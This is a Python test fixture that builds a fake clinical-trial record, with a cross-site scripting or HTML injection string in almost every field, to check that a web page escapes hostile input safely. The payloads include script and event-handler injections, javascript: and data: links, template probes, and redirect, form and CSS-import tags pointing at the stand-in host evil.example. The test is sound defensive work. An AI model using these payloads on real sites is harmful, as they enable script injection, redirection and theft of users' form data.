"""A record whose every text tries to break out of the page (fault B16)."""

from __future__ import annotations

from typing import Any

from tests.web.studies import raw_study

ATTACKS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg><style>body{display:none}</style></svg>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=attributes>",
    "<a href=javascript:window.pwned=1 id=main>x</a>",
    "{{ 7*7 }}{% raw %}",
    "</title></textarea></script><plaintext>",
    '"><svg/onload=window.pwned=1>',
    "' onmouseover='window.pwned=1",
    "<style>@import url(//evil.example/x.css)</style>",
)
WORST = " ".join(ATTACKS)


def hostile_study(nct: str = "NCT99980666") -> dict[str, Any]:
    """Attacks in title, summary, criteria, sites, contacts, sponsor, arms, outcomes, ids, links, unknown fields."""
    site = {"facility": WORST, "city": WORST, "country": "France" + WORST, "status": WORST, "contacts": [_person()]}
    raw = raw_study(
        nct,
        identification={"nctId": nct, "briefTitle": WORST, "officialTitle": WORST, "acronym": WORST},
        status={
            "overallStatus": WORST,
            "whyStopped": WORST,
            "lastKnownStatus": WORST,
            "startDateStruct": {"date": WORST, "type": WORST},
            "completionDateStruct": {"date": "2027-06", "type": WORST},
            "studyFirstSubmitDate": "2020-01-01",
        },
        sponsorCollaborators={"leadSponsor": {"name": WORST, "class": WORST}, "collaborators": [{"name": WORST}]},
        description={"briefSummary": f"* {WORST}\n\n{WORST}", "detailedDescription": WORST},
        conditions={"conditions": [WORST], "keywords": [WORST]},
        design={
            "studyType": WORST,
            "phases": [WORST],
            "targetDuration": WORST,
            "designInfo": {"primaryPurpose": WORST},
        },
        armsInterventions={
            "armGroups": [{"label": WORST, "type": WORST, "description": WORST, "interventionNames": [WORST]}],
            "interventions": [{"type": WORST, "name": WORST, "description": WORST, "otherNames": [WORST]}],
        },
        outcomes={"primaryOutcomes": [{"measure": WORST, "timeFrame": WORST, "description": WORST}]},
        eligibility={"eligibilityCriteria": WORST, "sex": WORST, "minimumAge": WORST, "maximumAge": WORST},
        contactsLocations={
            "centralContacts": [_person()],
            "overallOfficials": [{"name": WORST, "affiliation": WORST, "role": WORST}],
            "locations": [site],
        },
        references={
            "references": [{"pmid": "javascript:1", "citation": WORST, "type": WORST}],
            "seeAlsoLinks": [
                {"label": WORST, "url": "javascript:window.pwned=1"},
                {"label": "quoted", "url": 'https://a.example/"onmouseover="window.pwned=1'},
                {"label": "data", "url": "data:text/html,<script>window.pwned=1</script>"},
            ],
        },
    )
    raw["protocolSection"]["newModule"] = {WORST: WORST}
    return raw


def _person() -> dict[str, str]:
    return {"name": WORST, "phone": "javascript:1" + WORST, "email": "a@b.example?subject=" + WORST, "role": WORST}
